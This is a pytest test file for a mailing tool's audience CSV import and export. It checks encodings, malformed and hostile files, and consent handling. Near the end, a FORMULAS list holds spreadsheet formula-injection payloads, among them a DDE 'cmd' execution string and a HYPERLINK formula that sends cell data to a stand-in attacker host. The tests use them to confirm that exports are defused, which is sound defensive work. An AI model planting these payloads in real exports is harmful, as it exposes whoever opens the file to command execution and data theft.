"""What holds for every audience file: as people save it, as attackers make it, as we write it."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator
from contextlib import suppress
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from contract.stores import entrant, opened
from fvdt_mailer.adapters.audience_file import read_audience_file, write_audience_file
from fvdt_mailer.errors import FilesError, Problem
from fvdt_mailer.model.address import Address
from fvdt_mailer.model.audience import Entrant, Reader, ReaderStatus
from fvdt_mailer.model.campaign import AudienceRule
from fvdt_mailer.model.imported import ImportTally, Row
from fvdt_mailer.model.language import Language
from fvdt_mailer.pipeline.readers.sift import Sieve
from world import PROJECT

NL = "email;naam;clusters\nan@example.org;Zoë ‘An’ Peeters;Voeding\nbram@example.org;Bram;\n"


@pytest.fixture
def file(tmp_path: Path) -> Path:
    return tmp_path / "lezers.csv"


def read(file: Path) -> Iterator[Row]:
    return read_audience_file(file, clusters=PROJECT.clusters, language=Language.NL)


def entrants(file: Path) -> list[Entrant]:
    rows = list(read(file))
    assert not [str(row) for row in rows if isinstance(row, Problem)]
    return [row for row in rows if isinstance(row, Entrant)]


def told(file: Path) -> list[str]:
    """The problems, without the name of the folder."""
    return [
        str(row).replace(str(file), "lezers.csv") for row in read(file) if isinstance(row, Problem)
    ]


def refusal(file: Path) -> str:
    with pytest.raises(FilesError) as raised:
        list(read(file))
    return str(raised.value).replace(str(file), "lezers.csv")


# --- as people save it


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "utf-16", "utf-16-le"])
@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
@pytest.mark.parametrize("line_end", ["\n", "\r\n", "\r"])
def test_a_file_is_read_however_a_spreadsheet_saved_it(
    file: Path, encoding: str, delimiter: str, line_end: str
) -> None:
    file.write_bytes(NL.replace(";", delimiter).replace("\n", line_end).encode(encoding))
    assert entrants(file) == [
        entrant("an", name="Zoë ‘An’ Peeters", clusters=frozenset({"voeding"})),
        entrant("bram", name="Bram"),
    ]


def test_a_first_line_for_excel_names_the_delimiter(file: Path) -> None:
    file.write_text("sep=,\n\nemail,naam\nan@example.org,An\n")
    assert entrants(file) == [entrant("an")]


def test_the_delimiter_is_the_one_that_gives_the_columns(file: Path) -> None:
    file.write_text('"email","naam; voornaam","organisatie"\nan@example.org,An,"a;b;c;d"\n')
    (warning, row) = read(file)
    assert isinstance(warning, Problem)
    assert row == entrant("an", name="", organisation="a;b;c;d")


def test_quoted_cells_keep_delimiters_and_quotes(file: Path) -> None:
    file.write_text('email;naam\n"an@example.org";"Peeters; An ""de bakker"""\n')
    assert entrants(file)[0].name == 'Peeters; An "de bakker"'


def test_quotes_inside_a_cell_need_no_care(file: Path) -> None:
    file.write_text('email;naam\nan@example.org;An "de bakker" Peeters\n')
    assert entrants(file)[0].name == 'An "de bakker" Peeters'


def test_lines_are_those_of_the_file(file: Path) -> None:
    file.write_text("\nsep=;\n\nemail\nan@example.org\n\n\nwrong\n")
    assert told(file)[0].startswith("lezers.csv:8: email: ")


# --- what is no audience file


@pytest.mark.parametrize(
    ("content", "text"),
    [
        (b"", "lezers.csv: is empty"),
        (b"\n\r\n;;;\n", "lezers.csv: is empty"),
        (b"naam;gsm\nAn;1\n", 'lezers.csv:1: no column "email"; the columns found are: "naam"'),
        (b"an@example.org\nbram@example.org\n", 'no column "email"'),
        (b"PK\x03\x04" + b"\x00" * 40, "lezers.csv: is a document, not text; give a CSV file"),
        (b"%PDF-1.7", "is a document, not text"),
        (bytes(range(256)) * 20, 'no column "email"'),
        (b"email;e-mail\n", 'a second column holds the email: "e-mail"'),
        (b"email" + b";x" * 10_000, "10001 columns are too many"),
        (b"email" + b";x" * 90_000, "the first line is endless"),
        (b'"email;naam\n' + b"x" * 40, 'no column "email"'),
        (b"email\n" + b"x" * 2_000_000, "lezers.csv:2: this line has a million characters"),
        (b"x" * 2_000_000, "lezers.csv:1: this line has a million characters"),
        (b"email;naam\n\x00", ""),
    ],
    ids=lambda value: repr(value)[:24],
)
def test_what_cannot_be_read_as_rows_is_one_clear_problem(
    file: Path, content: bytes, text: str
) -> None:
    file.write_bytes(content)
    if text:
        assert text in refusal(file)
    else:
        assert told(file) == [
            "lezers.csv:2: row: a cell holds the unprintable character U+0000; type that cell again"
        ]


def test_a_file_that_is_not_there_is_named(file: Path) -> None:
    assert refusal(file).startswith("lezers.csv: cannot be read: No such file or directory; give")


def test_a_folder_is_not_a_file(tmp_path: Path) -> None:
    assert "cannot be read: Is a directory" in refusal(tmp_path)


# --- as attackers and accidents make it


def test_a_quote_that_is_not_closed_is_told_and_not_swallowed(file: Path) -> None:
    rest = "".join(f"r{number}@example.org;Naam\n" for number in range(40))
    file.write_text('email;naam\nan@example.org;"An\n' + rest)
    (problem,) = told(file)
    assert problem.startswith("lezers.csv:2: row: a cell holds a line break")


def test_a_quote_that_swallows_a_hundred_thousand_characters_is_told_and_reading_goes_on(
    file: Path,
) -> None:
    rest = "".join(f"r{number}@example.org;Naam\n" for number in range(9000))
    file.write_text('email;naam\nan@example.org;"An\n' + rest)
    rows = list(read(file))
    assert isinstance(rows[0], Problem)
    assert rows[0].line == 2
    assert "cannot be read up to line" in rows[0].text
    assert isinstance(rows[-1], Entrant)
    assert rows[-1].address.local == "r8999"


def test_a_bomb_of_cells_is_one_problem(file: Path) -> None:
    file.write_text("email;naam\n" + ";" * 9000 + "x\nan@example.org;An\n")
    problem, row = read(file)
    assert isinstance(problem, Problem)
    assert problem.text == "has 9001 cells where the first line names 2 columns"
    assert row == entrant("an")


def test_one_broken_letter_spoils_one_row_only(file: Path) -> None:
    content = "email;naam\nan@example.org;Zoë\nbram@example.org;Noë\nceline@example.org;"
    file.write_bytes(content.encode() + b"Celin\xe9e\n")
    assert [row.name for row in read(file) if isinstance(row, Entrant)] == ["Zoë", "Noë"]
    assert told(file) == [
        "lezers.csv:4: row: a cell holds the unprintable character U+FFFD; type that cell again"
    ]


@settings(max_examples=300, deadline=None)
@given(
    st.binary(max_size=200)
    | st.lists(
        st.sampled_from(
            [
                b"email",
                b";",
                b",",
                b"\n",
                b"\r",
                b'"',
                b"\x00",
                b"an@example.org",
                b"\xff\xfe",
                b"=",
            ]
        ),
        max_size=30,
    ).map(b"".join)
)
def test_any_bytes_give_entrants_problems_or_one_refusal(content: bytes) -> None:
    with TemporaryDirectory() as folder:
        file = Path(folder) / "lezers.csv"
        file.write_bytes(b"email;naam;taal\n" + content)
        _exhaust(read(file))
        file.write_bytes(content)
        with suppress(FilesError):
            _exhaust(read(file))


def _exhaust(rows: Iterable[Row]) -> None:
    for row in rows:
        assert isinstance(row, Entrant) or row.line


# --- into the audience


def _import(file: Path, content: str) -> Sieve:
    file.write_text(content)
    return Sieve(read(file))


def test_a_file_with_a_wrong_row_changes_nothing(tmp_path: Path, file: Path) -> None:
    lines = "".join(f"r{number}@example.org\n" for number in range(1200))
    sieve = _import(file, f"email\n{lines}wrong\n")
    with opened(tmp_path) as store:
        with pytest.raises(FilesError, match="wrong"):
            store.audience.merge(sieve.all(), dry_run=False)
        assert store.audience.stats().readers == 0


def test_a_file_without_languages_leaves_those_of_known_readers(tmp_path: Path, file: Path) -> None:
    with opened(tmp_path) as store:
        french = _import(file, "email,language\nan@example.org,fr\n")
        store.audience.merge(french.all(), dry_run=False)
        again = _import(file, "email,name\nan@example.org,An\nbram@example.org,Bram\n")
        store.audience.merge(again.all(), dry_run=False)
        languages = [str(one.language) for one in store.audience.everyone()]
    assert languages == ["fr", "nl"]


def test_an_export_keeps_the_consent_that_was_given(tmp_path: Path, file: Path) -> None:
    rows = "email,consent_source,consent_at\nan@example.org,beurs,2026-01-05\n"
    with opened(tmp_path) as store:
        store.audience.merge(_import(file, rows).all(), dry_run=False)
        write_audience_file(file, store.audience.everyone())
    assert file.read_bytes().endswith(b";active;beurs;2026-01-05\r\n")


def test_wrong_rows_can_be_skipped(tmp_path: Path, file: Path) -> None:
    sieve = _import(file, "email\nan@example.org\nwrong\nbram@example.org\n")
    with opened(tmp_path) as store:
        assert store.audience.merge(sieve.good(), dry_run=False) == ImportTally(new=2)
    assert (sieve.report.entrants, sieve.report.refused) == (2, 1)


# --- as we write it


def reader(
    *,
    local: str = "an",
    name: str = "",
    organisation: str = "",
    clusters: frozenset[str] = frozenset(),
    tags: frozenset[str] = frozenset(),
    status: ReaderStatus = ReaderStatus.ACTIVE,
) -> Reader:
    return Reader(
        id=1,
        address=Address(local, "example.org"),
        language=Language.FR,
        name=name,
        organisation=organisation,
        clusters=clusters,
        tags=tags,
        status=status,
    )


def written(*readers: Reader) -> str:
    stream = io.StringIO(newline="")
    assert write_audience_file(stream, readers) == len(readers)
    return stream.getvalue()


def test_a_file_is_written_for_a_spreadsheet(file: Path) -> None:
    zoe = reader(
        name="Zoë; An", clusters=frozenset({"voeding", "blue-energy"}), tags=frozenset({"pers"})
    )
    assert write_audience_file(file, [zoe]) == 1
    assert file.read_bytes() == (
        b"\xef\xbb\xbfemail;name;organisation;language;clusters;tags;status;"
        b"consent_source;consent_at\r\n"
        b'an@example.org;"Zo\xc3\xab; An";;fr;blue-energy|voeding;pers;active;;\r\n'
    )


def test_a_writing_that_breaks_off_leaves_the_file_as_it_was(file: Path) -> None:
    def breaking() -> Iterator[Reader]:
        yield reader()
        raise RuntimeError("the store is gone")

    write_audience_file(file, [])
    before = file.read_bytes()
    with pytest.raises(RuntimeError, match="the store is gone"):
        write_audience_file(file, breaking())
    assert file.read_bytes() == before
    assert list(file.parent.iterdir()) == [file]


def test_a_file_that_cannot_be_written_is_named(tmp_path: Path) -> None:
    with pytest.raises(FilesError, match="cannot be written: No such file or directory"):
        write_audience_file(tmp_path / "nowhere" / "lezers.csv", [])


FORMULAS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example.org?x="&A1,"klik")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "An;=1+1",
    "An,=1+1",
    "An\t=1+1",
    'An";=1+1;"',
    "An\n=1+1",
    ";;=1+1",
)


@pytest.mark.parametrize("payload", FORMULAS)
@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
def test_no_cell_of_an_export_is_a_formula_however_it_is_opened(
    payload: str, delimiter: str
) -> None:
    export = written(reader(local="+an", name=payload, organisation=payload))
    for row in csv.reader(io.StringIO(export, newline=""), delimiter=delimiter):
        for cell in row:
            assert not cell.startswith(tuple("=+-@＝＋－＠\t\r\n")), cell
            assert not cell.lstrip().startswith(tuple("=+-@")), cell


@pytest.mark.parametrize("payload", ["=1+1", "+32 50 14 01 50", "-", "@an", "'=1", "a;=1", "a,-b"])
def test_a_defused_cell_comes_back_as_it_was(file: Path, payload: str) -> None:
    write_audience_file(file, [reader(local="=an", name=payload)])
    assert entrants(file) == [entrant("=an", name=payload, language=Language.FR)]


def test_who_may_not_be_mailed_does_not_become_active_by_an_export_and_an_import(
    file: Path,
) -> None:
    write_audience_file(file, [reader(status=status) for status in ReaderStatus])
    assert [row.address.local for row in read(file) if isinstance(row, Entrant)] == ["an"]
    assert len(told(file)) == len(ReaderStatus) - 1


_LETTERS = st.text(
    st.characters(categories=["Lu", "Ll", "Nd"], include_characters=" -'+=@.’&"), max_size=12
).map(lambda text: " ".join(text.split()))
_TAGS = st.frozensets(_LETTERS.filter(bool), max_size=3)


@settings(max_examples=40, deadline=None)
@given(
    st.lists(
        st.builds(
            reader,
            local=st.text("abc+='-_", min_size=1, max_size=8),
            name=_LETTERS,
            organisation=_LETTERS,
            clusters=st.frozensets(st.sampled_from(sorted(PROJECT.clusters))),
            tags=_TAGS,
        ),
        max_size=5,
        unique_by=lambda one: one.address.key,
    )
)
def test_importing_an_export_gives_the_same_readers(readers: list[Reader]) -> None:
    with TemporaryDirectory() as folder, opened(Path(folder)) as store:
        file = Path(folder) / "lezers.csv"
        write_audience_file(file, readers)
        store.audience.merge(Sieve(read(file)).all(), dry_run=False)
        again = Path(folder) / "again.csv"
        write_audience_file(again, store.audience.readers(AudienceRule()))
        assert again.read_bytes() == file.read_bytes()
        assert store.audience.merge(Sieve(read(again)).all(), dry_run=True) == ImportTally(
            unchanged=len(readers)
        )
